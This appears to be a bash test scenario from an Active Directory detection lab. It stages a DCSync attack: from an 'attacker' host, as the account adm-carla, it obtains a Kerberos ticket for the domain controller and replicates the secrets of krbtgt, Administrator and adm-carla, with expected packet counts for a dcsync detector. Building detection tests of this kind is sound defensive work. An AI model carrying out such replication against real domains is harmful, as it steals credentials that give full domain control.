#: title: Replication of secrets by a host that is no domain controller, with a Kerberos ticket
#: kind: attack
#: detect: dcsync
#: place: dcsync
#: count: 1 kerberos.msg_type == 13 && kerberos.CNameString == "adm-carla"
#: count: 3 drsuapi.opnum == 3 && dcerpc.pkt_type == 0
#: count: 0 ntlmssp
. "$(dirname "${BASH_SOURCE[0]}")/../steps.sh"
prepare() { only_ipv4; }
run() {
  EXPECT=none logon attacker adm-carla -F
  EXPECT=none step attacker adm-carla "service ticket for the domain controller" kvno ldap/DC1.LAB.EXAMPLE
  CCACHE=$LAB_DIR/hosts/attacker/ccache step attacker adm-carla "DRSGetNCChanges for krbtgt and two administrators" \
    "$PY" "$HERE/replicate.py" $DC --objects "CN=krbtgt,CN=Users,$BASE" "CN=Administrator,CN=Users,$BASE" "CN=adm-carla,OU=Service Accounts,$BASE"
}
